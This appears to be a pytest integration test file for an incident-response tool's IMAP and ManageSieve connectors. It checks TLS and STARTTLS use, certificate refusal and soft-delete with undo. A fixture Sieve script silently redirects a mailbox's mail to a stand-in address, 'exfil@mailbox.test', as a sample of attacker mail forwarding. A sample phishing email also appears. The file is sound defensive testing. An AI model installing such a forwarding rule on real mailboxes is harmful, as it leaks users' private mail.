"""The IMAP connector and the ManageSieve client over TLS, verifying the harness's certificate.

Implicit TLS (the ``imaps`` port) and STARTTLS (the plaintext port, upgraded before the login)
both carry a soft delete and its undo; a client that does not trust the certificate, or asked
for STARTTLS by a server that does not offer it, refuses with a connector error that says why —
it never logs in over plaintext instead.
"""

from __future__ import annotations

import socket
import ssl
import threading
import uuid
from collections.abc import Iterator
from email import policy
from email.message import EmailMessage
from pathlib import Path

import pytest

from autoir.connectors.imap import ImapEmailSystem, ImapSettings
from autoir.connectors.imap.client import Security
from autoir.connectors.sieve.forwarding import ManageSieveForwarding, MasterUser
from autoir.connectors.sieve.managesieve import ManageSieveSession
from autoir.domain.errors import ConnectorRejected
from autoir.ports.remediation import EmailOperation, MessageRef, MessageStatus
from tests.support.dovecot import DovecotServer, running_dovecot

pytestmark = [pytest.mark.dovecot, pytest.mark.integration]

SCRIPT = 'require ["copy"];\r\nredirect :copy "exfil@mailbox.test";\r\n'


def _phish(mailbox: str) -> tuple[bytes, str]:
    message_id = f"<{uuid.uuid4().hex}@contoso-helpdesk.example>"
    message = EmailMessage()
    message["From"] = "it-support@contoso-helpdesk.example"
    message["To"] = mailbox
    message["Subject"] = "Your password expires today"
    message["Message-ID"] = message_id
    message.set_content("Click here.\n")
    return message.as_bytes(policy=policy.SMTP), message_id


def _system(
    server: DovecotServer,
    state_dir: Path,
    security: Security,
    context: ssl.SSLContext | None,
    port: int | None = None,
) -> ImapEmailSystem:
    if port is None:
        port = server.imaps_port if security == "tls" else server.imap_port
    settings = ImapSettings(
        host=server.host,
        port=port,
        security=security,
        ssl_context=context,
        master_user=server.master_user,
        master_password=server.master_password,
        store_mailbox=server.store_mailbox,
        timeout=5.0,
    )
    return ImapEmailSystem(settings, state_dir)


@pytest.mark.parametrize("security", ["tls", "starttls"])
def test_soft_delete_and_undo_over_tls_verifying_the_certificate(
    dovecot: DovecotServer, tmp_path: Path, security: Security
) -> None:
    mailbox = "alice@contoso.com"
    raw, message_id = _phish(mailbox)
    dovecot.deliver_lmtp([mailbox], raw)
    system = _system(dovecot, tmp_path, security, dovecot.ssl_context())
    ref = MessageRef(mailbox, internet_message_id=message_id)

    (deleted,) = system.apply("act-delete", EmailOperation.SOFT_DELETE, [ref])
    assert (deleted.status, deleted.folder_before) == (MessageStatus.DONE, "Inbox")
    assert dovecot.folder_of(mailbox, message_id) == "Trash"

    back = MessageRef(mailbox, internet_message_id=message_id, restore_to=deleted.folder_before)
    (restored,) = system.apply("act-undo", EmailOperation.MOVE_BACK, [back])
    system.close()

    assert restored.status is MessageStatus.DONE
    assert dovecot.folder_of(mailbox, message_id) == "INBOX"


@pytest.mark.parametrize("security", ["tls", "starttls"])
def test_a_certificate_the_client_does_not_trust_is_refused_and_nothing_moves(
    dovecot: DovecotServer, tmp_path: Path, security: Security
) -> None:
    mailbox = "alice@contoso.com"
    raw, message_id = _phish(mailbox)
    dovecot.deliver(mailbox, "INBOX", raw)
    system = _system(dovecot, tmp_path, security, ssl.create_default_context())  # system CAs

    with pytest.raises(ConnectorRejected, match=r"TLS.*certificate could not be verified"):
        system.apply("act-1", EmailOperation.SOFT_DELETE, [MessageRef(mailbox, None, message_id)])
    system.close()

    assert dovecot.folder_of(mailbox, message_id) == "INBOX"


class _ImapWithoutStartTls:
    """A fake IMAP server that offers no STARTTLS and records every line a client sends."""

    def __init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._listener.getsockname()[1])
        self.received: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self._listener.accept()
            except OSError:
                return
            with client, client.makefile("rwb") as stream:
                stream.write(b"* OK [CAPABILITY IMAP4rev1 AUTH=PLAIN] Fake ready.\r\n")
                stream.flush()
                for line in stream:
                    self.received.append(line)
                    tag, _, command = line.strip().partition(b" ")
                    if command.upper().startswith(b"CAPABILITY"):
                        stream.write(b"* CAPABILITY IMAP4rev1 AUTH=PLAIN\r\n")
                    if command.upper().startswith(b"LOGOUT"):
                        stream.write(b"* BYE\r\n" + tag + b" OK LOGOUT done.\r\n")
                        stream.flush()
                        break
                    stream.write(tag + b" OK Done.\r\n")
                    stream.flush()

    def close(self) -> None:
        self._listener.close()


@pytest.fixture
def imap_without_starttls() -> Iterator[_ImapWithoutStartTls]:
    server = _ImapWithoutStartTls()
    yield server
    server.close()


def test_starttls_against_a_server_without_it_refuses_instead_of_logging_in_in_clear(
    dovecot: DovecotServer, tmp_path: Path, imap_without_starttls: _ImapWithoutStartTls
) -> None:
    system = _system(
        dovecot, tmp_path, "starttls", dovecot.ssl_context(), port=imap_without_starttls.port
    )
    ref = MessageRef("alice@contoso.com", None, "<x@contoso-helpdesk.example>")

    with pytest.raises(ConnectorRejected, match="STARTTLS"):
        system.apply("act-1", EmailOperation.SOFT_DELETE, [ref])
    system.close()

    sent = b"".join(imap_without_starttls.received).upper()
    assert b"LOGIN" not in sent
    assert dovecot.master_password.encode().upper() not in sent


# --- ManageSieve -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def sieve_tls_server() -> Iterator[DovecotServer]:
    """A Dovecot whose ManageSieve offers STARTTLS (the session's server has none)."""
    with running_dovecot(sieve_starttls=True) as server:
        yield server


def test_managesieve_over_starttls_reads_capabilities_again_and_keeps_scripts_exact(
    sieve_tls_server: DovecotServer,
) -> None:
    server = sieve_tls_server
    context = server.ssl_context()
    with ManageSieveSession(
        server.host, server.sieve_port, starttls=True, ssl_context=context
    ) as s:
        s.open(*server.master_login("alice@contoso.com"))
        assert "STARTTLS" not in s.capabilities  # the list sent again after the handshake
        assert "SIEVE" in s.capabilities
        s.putscript("roundcube", SCRIPT)
        s.setactive("roundcube")
        assert s.getscript("roundcube") == SCRIPT


def test_forwarding_off_and_back_over_starttls(
    sieve_tls_server: DovecotServer, tmp_path: Path
) -> None:
    server = sieve_tls_server
    mailbox = "bob@contoso.com"
    with ManageSieveSession(
        server.host, server.sieve_port, starttls=True, ssl_context=server.ssl_context()
    ) as session:
        session.open(*server.master_login(mailbox))
        session.putscript("roundcube", SCRIPT)
        session.setactive("roundcube")
    forwarding = ManageSieveForwarding(
        server.host,
        server.sieve_port,
        credentials=MasterUser(server.master_user, server.master_password),
        state_path=tmp_path / "sieve-state.json",
        starttls=True,
        ssl_context=server.ssl_context(),
    )

    change = forwarding.turn_off_external_forwarding("act-1", mailbox, ["contoso.com"])
    assert change.removed == ("exfil@mailbox.test",)
    forwarding.restore_forwarding("act-2", change)

    assert forwarding.external_forwarding(mailbox, ["contoso.com"]) == ["exfil@mailbox.test"]


def test_managesieve_refuses_a_certificate_it_does_not_trust(
    sieve_tls_server: DovecotServer,
) -> None:
    server = sieve_tls_server
    session = ManageSieveSession(
        server.host, server.sieve_port, starttls=True, ssl_context=ssl.create_default_context()
    )

    with pytest.raises(ConnectorRejected, match="certificate could not be verified"):
        session.open(*server.master_login("alice@contoso.com"))
